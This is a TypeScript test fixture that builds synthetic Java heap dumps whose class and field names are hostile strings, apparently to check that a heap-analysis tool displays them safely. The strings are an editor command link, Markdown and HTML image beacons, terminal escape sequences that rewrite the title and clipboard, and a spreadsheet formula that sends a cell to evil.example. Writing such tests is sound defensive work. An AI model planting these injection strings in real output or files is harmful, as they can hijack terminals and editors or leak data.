import { HprofBuilder } from "./hprofBuilder";

const object = 0x1000n;
const objectArray = 0x1300n;

/** What hostile names try to do, each to the medium that would obey it. */
export const hostileNames = {
  /** A link that runs a command, in a message. */
  link: "com/evil/Order [Source moved](command:workbench.action.openSettings?%22PWNED%22)",
  /** A picture that is loaded, in Markdown and HTML. */
  picture: "com/evil/![beacon](https://127.0.0.1:9/beacon.png) <img src=x> $(bug)",
  /** Title, colour, screen and clipboard of a terminal, and another line. */
  escapes:
    "com/evil/\u001b]0;PWNED\u0007\u001b[2J\u001b[31mRed\u001b]52;c;ZXZpbA==\u0007\u009b1m\r\nBROKEN LINE\u202e",
  /** A formula, in a spreadsheet. */
  formula: '=HYPERLINK("https:--evil.example-?"&A2,"click")',
} as const;

/** The field that holds the biggest object of {@link hostileFieldDump}. */
export const hostileField = "`![beacon](https://127.0.0.1:8443/beacon.png)`";

/** A heap dump whose classes are named for those who show them: one big object each. */
export function hostileNamesDump(): Uint8Array {
  const builder = new HprofBuilder().class(object, "java/lang/Object");
  let id = 0x10_0000n;
  for (const [position, name] of Object.values(hostileNames).entries()) {
    const type = 0x2000n + BigInt(position) * 0x100n;
    builder.class(type, name, { super: object, fields: [["data", "object"]] });
    builder.instance(id, type, { data: id + 0x100n });
    builder.primitiveArray(id + 0x100n, "byte", new Array<number>(400_000 >> position).fill(7));
    builder.root("jni-global", id);
    id += 0x10_0000n;
  }
  return builder.build();
}

/** A heap dump whose leak suspect is held by a static field named as a picture. */
export function hostileFieldDump(): Uint8Array {
  const registry = 0x2000n;
  const entry = 0x2100n;
  const arrayList = 0x2200n;
  const list = 0x9000_0000n;
  const elements = list + 0x100n;
  const builder = new HprofBuilder()
    .class(object, "java/lang/Object")
    .class(objectArray, "[Ljava/lang/Object;", { super: object })
    .class(entry, "com/evil/Entry", { super: object, fields: [["data", "object"]] })
    .class(arrayList, "java/util/ArrayList", {
      super: object,
      fields: [
        ["size", "int"],
        ["elementData", "object"],
      ],
    })
    .class(registry, "com/evil/Registry", { super: object, statics: [[hostileField, "object", list]] })
    .root("sticky-class", registry);
  const entries: bigint[] = [];
  for (let id = 0x10_0000n; entries.length < 3_000; id += 0x1000n) {
    builder.instance(id, entry, { data: id + 0x100n });
    builder.primitiveArray(id + 0x100n, "byte", new Array<number>(1_000).fill(1));
    entries.push(id);
  }
  builder.instance(list, arrayList, { size: entries.length, elementData: elements });
  const capacity = [...entries, ...new Array<bigint>(500).fill(0n)];
  return builder.objectArray(elements, objectArray, capacity).build();
}
